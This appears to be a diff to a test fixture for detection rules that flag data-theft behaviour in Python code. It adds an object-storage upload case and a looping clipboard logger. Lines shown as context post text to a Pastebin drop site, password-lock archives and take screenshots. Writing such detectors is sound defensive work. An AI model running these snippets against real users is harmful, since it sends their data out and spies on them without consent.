@@ -76,6 +76,8 @@ def over_ssh():
 
 # hit: escrow.py.files.uploads-to-object-storage
 boto3.client("s3").upload_file("a.csv", "bucket", "a.csv")
+# hit: escrow.py.files.uploads-to-object-storage
+bucket.upload_local_file(local_file="a.csv", file_name="a.csv")
 boto3.client("s3").list_buckets()
 # hit: escrow.py.files.sends-to-a-drop-site
 requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": text})
@@ -96,8 +98,10 @@ opened = py7zr.SevenZipFile("a.7z", mode="r", password=secret)
 # hit: escrow.py.files.locks-files-under-a-password
 packed = pyzipper.AESZipFile("a.zip", "w", encryption=pyzipper.WZ_AES)
 opened = pyzipper.AESZipFile("a.zip")
-# hit: escrow.py.files.records-the-clipboard
 text = pyperclip.paste()
+while True:
+    # hit: escrow.py.files.records-the-clipboard
+    log.write(pyperclip.paste())
 pyperclip.copy("done")
 # hit: escrow.py.files.records-the-screen-or-keys
 pyautogui.screenshot("s.png")
